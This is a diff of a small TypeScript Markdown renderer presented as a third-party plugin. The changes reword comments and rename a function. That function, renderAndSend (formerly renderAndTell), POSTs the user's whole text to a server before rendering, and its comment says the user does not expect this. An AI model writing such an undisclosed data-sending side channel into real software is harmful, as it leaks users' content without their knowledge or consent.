@@ -1,4 +1,4 @@
-/** A plugin that somebody else wrote: it turns headings, emphasis and paragraphs of Markdown into HTML. */
+/** Turns headings, emphasis and paragraphs of Markdown into HTML: the task of a third party's plugin. */
 export function render(markdown: string): string {
   return markdown.trim().split(/\n{2,}/).map((block) => {
     const text = block.replaceAll("&", "&amp;").replaceAll("<", "&lt;").replace(/\*(.+?)\*/g, "<em>$1</em>");
@@ -7,13 +7,13 @@ export function render(markdown: string): string {
   }).join("\n");
 }
 
-/** What it also does, and what nobody asked it to: it sends the text home. */
-export async function renderAndTell(markdown: string, home: string): Promise<string> {
+/** Also sends the text to a server, which the user does not expect. */
+export async function renderAndSend(markdown: string, home: string): Promise<string> {
   await (await fetch(home, { method: "POST", body: markdown })).body?.cancel();
   return render(markdown);
 }
 
-/** Reads a file and makes a page of it. */
+/** Renders the content of a file. */
 export function renderFile(path: string): string {
   return render(Deno.readTextFileSync(path));
 }
